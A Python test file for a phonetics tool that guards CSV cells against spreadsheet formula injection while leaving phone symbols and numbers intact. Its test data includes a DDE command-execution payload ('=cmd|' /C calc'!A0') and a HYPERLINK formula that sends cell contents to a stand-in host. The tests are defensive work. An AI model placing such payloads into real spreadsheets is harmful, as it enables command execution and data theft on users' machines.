"""Cells of CSV files: what a spreadsheet would call is guarded, phones and numbers are not, and all come back."""

from __future__ import annotations

from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st

from phonoscope.files import write_frame
from phonoscope.formulas import guarded, unguarded
from phonoscope.results import _read

if TYPE_CHECKING:
    from pathlib import Path

DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "  =f(x)",
    "\t=f(x)",
    "\r=f(x)",
    "a\n=f(x)",
    "a;=f(x)",
    "a,\t@f(x)",
    "=[book.xlsx]Sheet1!A1",
    "=Sheet!A1",
    "＝f(x)",
]
# SAMPA, X-SAMPA, ARPAbet, diphones, numbers, clicks, and what people write beside them
PHONES = [
    "@",
    "@\\",
    "@`",
    "@U",
    "=",
    "+",
    "-",
    "=n",
    "-a",
    "a-b",
    "n=",
    "-1",
    "-1.5e-3",
    "+5",
    "'",
    "''",
    "|\\",
    "!\\",
]
PHONES += ["a", "", "(laugh)", "a=(b)", "[x]", "a'=b", "O|O", "-", "−", "@~", "=1"]
CELLS = st.text(st.sampled_from("=+-@＝'\t\r\n;,( |![ab1é\"") | st.characters(codec="utf-8"), max_size=12)


def cells(frame: pl.DataFrame) -> list[str]:
    return frame["x"].to_list()


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_calls_something_is_text(cell: str) -> None:
    (found,) = cells(guarded(pl.DataFrame({"x": [cell]})))
    for part in found.replace(",", ";").replace("\n", ";").replace("\r", ";").replace("\t", ";").split(";"):
        assert part.strip()[:1] not in {"=", "+", "@", "-", "＝"}, found
    assert found.replace("'", "") == cell.replace("'", "")


def test_phones_and_numbers_are_what_they_are() -> None:
    frame = pl.DataFrame({"x": PHONES, "n": [-1.5] * len(PHONES)})
    assert guarded(frame).equals(frame)
    assert unguarded(frame).equals(frame)
    assert guarded(pl.DataFrame({"n": [-1]})).equals(pl.DataFrame({"n": [-1]}))


@given(st.lists(CELLS | st.sampled_from([*DANGEROUS, *PHONES]), max_size=20))
@examples(max_examples=60, deadline=None)
def test_all_cells_come_back(given_cells: list[str]) -> None:
    for some in (given_cells, ["'" + cell for cell in given_cells]):
        frame = pl.DataFrame({"x": some}, schema={"x": pl.String})
        assert cells(unguarded(guarded(frame))) == some
        again = guarded(guarded(frame))
        assert cells(unguarded(unguarded(again))) == some


def test_a_run_reads_what_it_wrote(tmp_path: Path) -> None:
    frame = pl.DataFrame({"phone": [*DANGEROUS, *filter(None, PHONES)]})
    write_frame(frame, tmp_path / "x.csv")
    assert _read(tmp_path / "x.csv").equals(frame)
    lines = (tmp_path / "x.csv").read_text(encoding="utf-8")
    assert "\n'=cmd|' /C calc'!A0\n" in lines
    assert "\n@\n" in lines
